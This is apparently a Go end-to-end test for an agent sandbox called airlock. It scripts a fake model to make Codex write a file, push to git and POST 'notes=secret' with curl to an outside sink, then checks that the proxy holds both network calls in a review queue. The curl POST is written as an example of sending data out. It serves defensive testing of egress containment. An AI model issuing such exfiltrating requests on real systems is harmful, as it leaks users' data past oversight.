package agents

import (
	"encoding/json"
	"net"
	"net/http"
	"net/http/cgi"
	"net/http/httputil"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"testing"

	"github.com/airlock-dev/airlock/e2e/fakemodel"
)

// TestCodexContained runs the real Codex CLI under `airlock run` (issue
// 25, "Real clients"), with no hook installed: airlock's egress proxy is
// the only gate. Codex's model API (the fake model) is reached through
// the proxy, allowed by a rule of the user's policy; the agent's local
// write succeeds; its git push over HTTP to a git http-backend outside the
// sandbox and its curl POST to a sink outside are held: the remote's main
// does not move, the sink gets nothing, and both are pending items of the
// review queue with their method and URL.
func TestCodexContained(t *testing.T) {
	bin := tool(t, codex.envVar, false)
	if runtime.GOOS != "linux" {
		t.Skip("airlock run is Linux only")
	}
	if _, err := exec.LookPath("bwrap"); err != nil {
		if inCI() {
			t.Fatal("bwrap is not on PATH: .ci/run installs Debian's bubblewrap")
		}
		t.Skip("bwrap is not on PATH")
	}
	airlock := buildContained(t, t.TempDir())
	w := newWorld(t)
	ext := externalIPv4(t)

	// The remote, outside: the world's bare remote served by git
	// http-backend on the machine's own address, pushes allowed.
	g := serveGit(t, w, ext)
	w.git(w.remote, "config", "http.receivepack", "true")
	w.git(w.project, "remote", "set-url", "origin", g.url+"/remote.git")
	sink := newExternalSink(t, ext)

	// The fake model listens on the host's loopback; inside, loopback is
	// the sandbox's own, and NO_PROXY sends 127.0.0.1 there. So the model
	// is put behind a front on 127.0.0.2 (the host's loopback too, but not
	// in NO_PROXY): the client asks the proxy, which dials it outside.
	local := "echo local > local.txt"
	push := "git push origin main"
	post := "curl -s -X POST " + sink.url + "/collect -d notes=secret"
	api := fakemodel.New(t, []string{local, push, post})
	front := frontOn(t, "127.0.0.2", api.URL())

	// The model API over plain HTTP is decided like any request (a
	// passthrough host is only about tunnels): the user's rule allows it.
	// It listens on this machine's loopback, which the proxy refuses
	// unless the user's policy allows it (allow_loopback).
	w.writeFile(filepath.Join(w.home, ".config", "airlock", "policy.yaml"), `version: 1
mode: unattended
egress:
  allow_loopback: true
rules:
  - id: fake-model-api
    match: {host: ["127.0.0.2"]}
    decision: allow
`)
	argv, env := codex.prepare(t, w, api, bin, prompt)
	cfg := filepath.Join(codexHome(w), "config.toml")
	b, err := os.ReadFile(cfg)
	if err != nil {
		t.Fatal(err)
	}
	w.writeFile(cfg, strings.ReplaceAll(string(b), api.URL(), front))

	r := w.runAgent(api, env, append([]string{airlock, "run", "--"}, argv...)...)
	if r.err != nil {
		t.Logf("airlock run codex exited: %v\nstderr: %s", r.err, tail(r.stderr, 2000))
	}
	if got := len(api.Results()); got != 3 {
		t.Fatalf("the model got %d tool results, want 3 (so Codex did not reach its model through the proxy, or stopped)\nstdout: %s\nstderr: %s\n%s",
			got, tail(r.stdout, 3000), tail(r.stderr, 3000), api.Diagnostics())
	}
	if b, err := os.ReadFile(filepath.Join(w.project, "local.txt")); err != nil || strings.TrimSpace(string(b)) != "local" {
		t.Errorf("the local write did not happen: %q, %v", b, err)
	}
	if refs := w.remoteRefs(); len(refs) != 1 || refs["refs/heads/main"] != w.base {
		t.Errorf("the remote changed: %v, want only refs/heads/main at %s", refs, w.base)
	}
	for _, req := range g.requests() {
		if strings.HasSuffix(req, "/git-receive-pack") {
			t.Errorf("the git server got %s from inside", req)
		}
	}
	if got := sink.requests(); len(got) != 0 {
		t.Errorf("the sink got %q, want nothing", got)
	}
	// The proxy answers a held push in git's protocol: the agent reads
	// the queue id and what to do in git's own output.
	if res, ok := api.ResultFor(push); !ok || !strings.Contains(res.Text, "held by airlock: queue ") || !strings.Contains(res.Text, "remote: airlock held this push") {
		t.Errorf("the push's tool result does not carry airlock's reason and queue id: %.600s", res.Text)
	}

	if res, ok := api.ResultFor(push); ok {
		t.Logf("the push's tool result: %.800s", res.Text)
	}
	// The queue, read outside, has both as pending items with method and URL.
	out, err := w.run(nil, airlock, "queue", "list", "--json")
	if err != nil {
		t.Fatalf("airlock queue list --json: %v\n%s", err, out)
	}
	var items []struct {
		ID, Status, Kind, Tool, URL string
	}
	if err := json.Unmarshal([]byte(out), &items); err != nil {
		t.Fatalf("airlock queue list --json: %v\n%s", err, out)
	}
	for _, want := range []struct{ method, url string }{
		{"POST", g.url + "/remote.git/git-receive-pack"},
		{"POST", sink.url + "/collect"},
	} {
		id := ""
		for _, it := range items {
			if it.Kind == "net" && it.Tool == want.method && it.URL == want.url && it.Status == "pending" {
				id = it.ID
			}
		}
		if id == "" {
			t.Errorf("%s %s is not a pending net item of the queue:\n%s", want.method, want.url, out)
		}
		// curl -s prints the proxy's body: the model is told the queue id.
		// git prints only "403" for the push (it shows no body there).
		if want.url == sink.url+"/collect" {
			if res, _ := api.ResultFor(post); id == "" || !strings.Contains(res.Text, id) {
				t.Errorf("the POST's tool result does not name its queue id %q: %.600s", id, res.Text)
			}
		}
	}
	for _, it := range items {
		if strings.Contains(it.URL, "127.0.0.2") {
			t.Errorf("a model API request was held: %+v", it)
		}
	}

	// Control, outside the sandbox: the same push over the same server
	// lands, so the held push above was held, not refused by the server.
	w.git(w.project, "push", "-q", "origin", "main:refs/heads/control")
	if refs := w.remoteRefs(); refs["refs/heads/control"] != w.head {
		t.Errorf("the control push from outside did not land: %v", refs)
	}
}

// buildContained builds airlock with the binaries `airlock run` needs
// beside it: airlock-run (the runner), airlock-proxy (its door),
// airlock-bridge (the sandbox's first process) and the hook client.
func buildContained(t *testing.T, dir string) string {
	t.Helper()
	airlock := buildAirlock(t, dir)
	goBin, err := exec.LookPath("go")
	if err != nil {
		goBin = filepath.Join(runtime.GOROOT(), "bin", "go")
	}
	for _, name := range []string{"airlock-run", "airlock-proxy", "airlock-bridge"} {
		cmd := exec.Command(goBin, "build", "-o", filepath.Join(dir, name), "github.com/airlock-dev/airlock/cmd/"+name)
		cmd.Env = append(os.Environ(), "CGO_ENABLED=0")
		if b, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("go build %s: %v\n%s", name, err, b)
		}
	}
	// t.TempDir is 0700; the sandbox runs these binaries as the same user,
	// so that is enough.
	return airlock
}

// externalIPv4 is the machine's own non-loopback address: a server there
// is outside the sandbox, reachable from inside only through the proxy.
func externalIPv4(t *testing.T) string {
	t.Helper()
	addrs, _ := net.InterfaceAddrs()
	for _, a := range addrs {
		if ip, ok := a.(*net.IPNet); ok && ip.IP.To4() != nil && !ip.IP.IsLoopback() {
			return ip.IP.String()
		}
	}
	if inCI() {
		t.Fatal("no non-loopback IPv4 address: the contained tier needs one for servers outside the sandbox")
	}
	t.Skip("no non-loopback IPv4 address")
	return ""
}

// recorder is an HTTP server that records each request's method and path.
type recorder struct {
	url string
	mu  sync.Mutex
	got []string
}

func (s *recorder) requests() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]string(nil), s.got...)
}

func (s *recorder) serve(t *testing.T, addr string, h http.Handler) {
	t.Helper()
	l, err := net.Listen("tcp", net.JoinHostPort(addr, "0"))
	if err != nil {
		t.Fatal(err)
	}
	s.url = "http://" + l.Addr().String()
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s.mu.Lock()
		s.got = append(s.got, r.Method+" "+r.URL.Path)
		s.mu.Unlock()
		h.ServeHTTP(w, r)
	})}
	go srv.Serve(l)
	t.Cleanup(func() { srv.Close() })
}

func newExternalSink(t *testing.T, addr string) *recorder {
	s := &recorder{}
	s.serve(t, addr, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { w.Write([]byte("sink ok\n")) }))
	return s
}

// serveGit serves the world's root (its bare remote.git) with git
// http-backend.
func serveGit(t *testing.T, w *world, addr string) *recorder {
	t.Helper()
	out, err := exec.Command("git", "--exec-path").Output()
	if err != nil {
		t.Fatal(err)
	}
	backend := filepath.Join(strings.TrimSpace(string(out)), "git-http-backend")
	if _, err := os.Stat(backend); err != nil {
		t.Fatalf("git http-backend: %v", err)
	}
	g := &recorder{}
	g.serve(t, addr, &cgi.Handler{Path: backend, Env: []string{"GIT_PROJECT_ROOT=" + w.root, "GIT_HTTP_EXPORT_ALL=1"}})
	return g
}

// frontOn serves a reverse proxy to target on addr (a port chosen at run
// time) and returns its URL.
func frontOn(t *testing.T, addr, target string) string {
	t.Helper()
	u, err := url.Parse(target)
	if err != nil {
		t.Fatal(err)
	}
	rp := httputil.NewSingleHostReverseProxy(u)
	rp.FlushInterval = -1 // the model streams (SSE)
	f := &recorder{}
	f.serve(t, addr, rp)
	return f.url
}
